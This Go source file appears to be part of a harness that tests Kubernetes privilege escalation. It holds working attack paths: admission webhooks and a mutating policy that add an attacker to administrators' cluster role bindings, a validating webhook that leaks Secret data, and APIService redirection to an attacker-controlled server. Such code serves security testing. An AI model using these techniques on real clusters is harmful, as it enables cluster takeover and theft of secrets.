package paths

import (
	"encoding/base64"
	"net/http"
	"strconv"
	"strings"
)

const registration = "/apis/admissionregistration.k8s.io/v1/"

func webhookConfiguration(kind, resource, group string, listener *listener) object {
	return object{
		"apiVersion": "admissionregistration.k8s.io/v1", "kind": kind, "metadata": object{"name": "seized"},
		"webhooks": []any{object{
			"name": "seized.example.org", "admissionReviewVersions": []any{"v1"}, "sideEffects": "None",
			"clientConfig": object{"url": listener.address(), "caBundle": listener.bundle},
			"rules": []any{object{
				"apiGroups": []any{group}, "apiVersions": []any{"v1"}, "operations": []any{"CREATE"}, "resources": []any{resource},
			}},
		}},
	}
}

func writeMutatingWebhook(w *walk) error {
	configuration := webhookConfiguration("MutatingWebhookConfiguration", "clusterrolebindings", "rbac.authorization.k8s.io", w.webhook)
	if err := w.try(post(registration+"mutatingwebhookconfigurations", configuration)); err != nil {
		return err
	}
	return w.takesCrownByLaterBinding()
}

// changeMutatingWebhook changes a configuration of others.
func changeMutatingWebhook(w *walk) error {
	configuration := webhookConfiguration("MutatingWebhookConfiguration", "clusterrolebindings", "rbac.authorization.k8s.io", w.webhook)
	if err := w.denied(post(registration+"mutatingwebhookconfigurations", configuration)); err != nil {
		return err
	}
	change := object{"webhooks": configuration["webhooks"]}
	if err := w.try(patch(registration+"mutatingwebhookconfigurations/other", change)); err != nil {
		return err
	}
	return w.takesCrownByLaterBinding()
}

// takesCrownByLaterBinding waits until a binding that the administrator writes for another user has the attacker as a
// subject, too.
func (w *walk) takesCrownByLaterBinding() error {
	count := 0
	err := await("changed binding", func() (bool, error) {
		count++
		binding, err := w.admin.must(w, post(rbac("clusterrolebindings"), adminBinding("routine-"+strconv.Itoa(count), "root")))
		subjects, _ := binding["subjects"].([]any)
		return len(subjects) == 2, err
	})
	if err != nil {
		return err
	}
	return w.takesCrownAfterWrite()
}

func writeValidatingWebhook(w *walk) error {
	configuration := webhookConfiguration("ValidatingWebhookConfiguration", "secrets", "", w.webhook)
	if err := w.try(post(registration+"validatingwebhookconfigurations", configuration)); err != nil {
		return err
	}
	value := base64.StdEncoding.EncodeToString([]byte("open sesame"))
	count := 0
	return await("rejected Secret", func() (bool, error) {
		count++
		secret := object{"metadata": object{"name": "new-" + strconv.Itoa(count)}, "data": object{"word": value}}
		given, err := w.admin.send(w, post(url("shop", "secrets"), secret))
		return strings.Contains(given.message, "rejected by the attacker") && w.webhook.heard(value), err
	})
}

func writePolicy(w *walk) error {
	policy := object{
		"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingAdmissionPolicy", "metadata": object{"name": "seized"},
		"spec": object{
			"matchConstraints": object{"resourceRules": []any{object{
				"apiGroups": []any{"rbac.authorization.k8s.io"}, "apiVersions": []any{"v1"}, "operations": []any{"CREATE"},
				"resources": []any{"clusterrolebindings"},
			}}},
			"failurePolicy": "Fail", "reinvocationPolicy": "Never",
			"mutations": []any{object{"patchType": "JSONPatch", "jsonPatch": object{
				"expression": `[JSONPatch{op: "add", path: "/subjects/-", value: {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "` + attacker + `"}}]`,
			}}},
		},
	}
	binding := object{
		"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingAdmissionPolicyBinding",
		"metadata": object{"name": "seized"}, "spec": object{"policyName": "seized"},
	}
	if err := w.try(post(registration+"mutatingadmissionpolicies", policy)); err != nil {
		return err
	}
	if err := w.try(post(registration+"mutatingadmissionpolicybindings", binding)); err != nil {
		return err
	}
	return w.takesCrownByLaterBinding()
}

const apiServices = "/apis/apiregistration.k8s.io/v1/apiservices"

// answers is the part of an APIService that leads to the server of the attacker: by a Service for a name outside of the
// cluster, here for loopback.
func (w *walk) answers() (object, error) {
	service := object{
		"apiVersion": "v1", "kind": "Service", "metadata": object{"name": "answers"},
		"spec": object{"type": "ExternalName", "externalName": "localhost", "ports": []any{object{"port": w.group.port}}},
	}
	return object{
		"insecureSkipTLSVerify": true, "service": object{"namespace": "lab", "name": "answers", "port": w.group.port},
	}, w.try(post(url("lab", "services"), service))
}

// readsLaterObject waits until an object that the administrator creates is at the server of the attacker.
func (w *walk) readsLaterObject(collection string, created object, word string) error {
	return await("object at the server of the attacker", func() (bool, error) {
		given, err := w.admin.send(w, post(collection, created))
		return given.status == http.StatusCreated && w.group.heard(word), err
	})
}

// writeAPIService answers for a new API group.
func writeAPIService(w *walk) error {
	spec, err := w.answers()
	if err != nil {
		return err
	}
	spec["group"], spec["version"], spec["groupPriorityMinimum"], spec["versionPriority"] = "orders.example.org", "v1", 100, 100
	if err := w.try(post(apiServices, object{
		"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
		"metadata": object{"name": "v1.orders.example.org"}, "spec": spec,
	})); err != nil {
		return err
	}
	order := object{"apiVersion": "orders.example.org/v1", "kind": "Order", "metadata": object{"name": "first"}, "word": "open sesame"}
	return w.readsLaterObject("/apis/orders.example.org/v1/namespaces/default/orders", order, "open sesame")
}

// changeAPIService answers for a built-in API group, until the administrator has repaired it.
func changeAPIService(w *walk) error {
	spec, err := w.answers()
	if err != nil {
		return err
	}
	const autoscaling = apiServices + "/v2.autoscaling"
	if err := w.try(patch(autoscaling, object{"spec": spec})); err != nil {
		return err
	}
	const collection = "/apis/autoscaling/v2/namespaces/default/horizontalpodautoscalers"
	scaler := object{
		"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler", "metadata": object{"name": "for-the-attacker"},
		"spec": object{"maxReplicas": 2, "scaleTargetRef": object{"kind": "ReplicationController", "name": "web"}},
	}
	if err := w.readsLaterObject(collection, scaler, "for-the-attacker"); err != nil {
		return err
	}
	repaired := object{"spec": object{"service": nil, "insecureSkipTLSVerify": false}}
	if _, err := w.admin.must(w, patch(autoscaling, repaired)); err != nil {
		return err
	}
	return await("repair of "+autoscaling, func() (bool, error) {
		list, err := w.admin.must(w, get(collection))
		return at(list, "kind") == "HorizontalPodAutoscalerList", err
	})
}
